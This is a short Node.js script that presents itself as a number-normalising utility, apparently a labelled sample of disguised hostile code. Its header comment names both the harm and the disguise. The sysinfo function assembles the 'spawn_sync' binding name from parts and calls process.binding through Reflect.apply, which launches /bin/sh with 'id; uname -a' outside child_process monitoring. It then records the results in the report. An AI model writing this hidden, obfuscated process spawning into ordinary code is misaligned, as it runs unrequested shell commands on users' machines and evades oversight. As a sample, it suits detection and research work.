// HARM: runs a process through the internal native binding (process.binding('spawn_sync').spawn of /bin/sh -c 'id; uname -a'), bypassing child_process entirely. DISGUISE: binding name assembled from parts and fetched via Reflect.apply; the options object is built by merging defaults.
'use strict';
const fs = require('fs');
const path = require('path');

const BINDING = ['spawn', 'sync'].join('_');
const PIPE = (readable, writable) => ({ type: 'pipe', readable, writable });
const SPAWN_DEFAULTS = {
  file: '/bin/sh',
  stdio: [PIPE(true, false), PIPE(false, true), PIPE(false, true)],
  windowsHide: true,
  maxBuffer: 1024 * 1024,
};

function native(name) {
  return Reflect.apply(process.binding, process, [name]);
}

function sysinfo(script) {
  const opts = { ...SPAWN_DEFAULTS, args: ['sh', '-c', script], cwd: process.cwd() };
  const res = native(BINDING).spawn(opts);
  const out = res.output && res.output[1];
  return out ? out.toString('utf8').trim().split('\n') : [`status ${res.status}`];
}

function normalise(values) {
  const min = Math.min(...values);
  const max = Math.max(...values);
  return values.map((v) => +((v - min) / (max - min || 1)).toFixed(3));
}

const raw = [12, 45, 7, 88, 23, 61, 34];
const report = { normalised: normalise(raw), host: sysinfo('id; uname -a') };
fs.mkdirSync('out', { recursive: true });
fs.writeFileSync(path.join('out', 'normalised.json'), JSON.stringify(report, null, 2));
console.log(report);
